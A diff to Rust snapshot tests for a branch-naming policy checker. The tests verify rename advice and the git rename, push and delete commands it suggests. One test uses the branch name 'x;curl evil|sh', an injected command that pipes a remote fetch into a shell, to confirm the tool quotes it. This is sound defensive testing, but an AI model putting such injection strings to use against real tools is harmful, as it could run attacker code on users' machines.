@@ -55,7 +55,7 @@ fn default_policy_accepts_the_seed_examples() {
 fn a_head_no_rule_matches_fails_both_gates() {
     let d = decide_with(&Policy::default_policy(), "changes", "master");
     assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
-    insta::assert_snapshot!(d.naming.timeline_message(), @r#"Branch "changes" matches no naming rule of the default policy. Allowed: feature/<area>/PBI-<n>-<slug> → develop; chore/<area>/PBI-<n>-<slug> → develop; hotfix/INC-<n>-<slug> or hotfix/BUG-<n>-<slug> → main, develop. Fix: rename the branch (fill in the placeholders) and open a new pull request into "develop"; renaming the head branch of an open pull request closes it: `git branch -m changes 'feature/<area>/PBI-<n>-<slug>' && git push -u origin 'feature/<area>/PBI-<n>-<slug>' && git push origin --delete changes`"#);
+    insta::assert_snapshot!(d.naming.timeline_message(), @r#"Branch "changes" matches no naming rule of the default policy. Allowed: feature/<area>/PBI-<n>-<slug> → develop; chore/<area>/PBI-<n>-<slug> → develop; hotfix/INC-<n>-<slug> or hotfix/BUG-<n>-<slug> → main, develop. Fix: rename the branch and open a new pull request into "develop" (renaming the head branch of an open pull request closes it). No policy file was found, so the default policy applies (a maintainer can write one that fits this repository's branches with: council init). Run this, replacing <area> with the area of the work (e.g. devops), <n> with the work item's number and <slug> with a short lower-case description (e.g. fix-login): `git branch -m changes 'feature/<area>/PBI-<n>-<slug>' && git push -u origin 'feature/<area>/PBI-<n>-<slug>' && git push origin --delete changes`"#);
     insta::assert_snapshot!(d.target.message.plain(), @r#"Branch "changes" matches no rule, so it may not target "master"."#);
 }
 
@@ -63,10 +63,14 @@ fn a_head_no_rule_matches_fails_both_gates() {
 fn the_rename_advice_picks_a_rule_that_may_target_the_base() {
     let d = decide_with(&Policy::default_policy(), "fix-login", "main");
     let fix = d.naming.fix.unwrap();
-    assert_eq!(
-        fix.commands[0],
-        "git branch -m fix-login 'hotfix/INC-<n>-<slug> or hotfix/BUG-<n>-<slug>'"
-    );
+    // One whole command per name the policy accepts, never a "name" holding " or ".
+    insta::assert_debug_snapshot!(fix.commands, @r#"
+    [
+        "git branch -m fix-login 'hotfix/INC-<n>-<slug>' && git push -u origin 'hotfix/INC-<n>-<slug>' && git push origin --delete fix-login",
+        "git branch -m fix-login 'hotfix/BUG-<n>-<slug>' && git push -u origin 'hotfix/BUG-<n>-<slug>' && git push origin --delete fix-login",
+    ]
+    "#);
+    insta::assert_snapshot!(fix.advice.plain(), @r#"rename the branch and open a new pull request into "main" (renaming the head branch of an open pull request closes it). No policy file was found, so the default policy applies (a maintainer can write one that fits this repository's branches with: council init). Run one of these, replacing <n> with the work item's number and <slug> with a short lower-case description (e.g. fix-login):"#);
 }
 
 #[test]
@@ -195,9 +199,9 @@ fn shell_metacharacters_in_names_are_quoted_in_fix_commands() {
     let fix = d.naming.fix.unwrap();
     assert_eq!(
         fix.commands[0],
-        "git branch -m 'x;curl evil|sh' 'feature/<area>/PBI-<n>-<slug>'"
+        "git branch -m 'x;curl evil|sh' 'feature/<area>/PBI-<n>-<slug>' && git push -u origin \
+         'feature/<area>/PBI-<n>-<slug>' && git push origin --delete 'x;curl evil|sh'"
     );
-    assert_eq!(fix.commands[2], "git push origin --delete 'x;curl evil|sh'");
 }
 
 #[test]
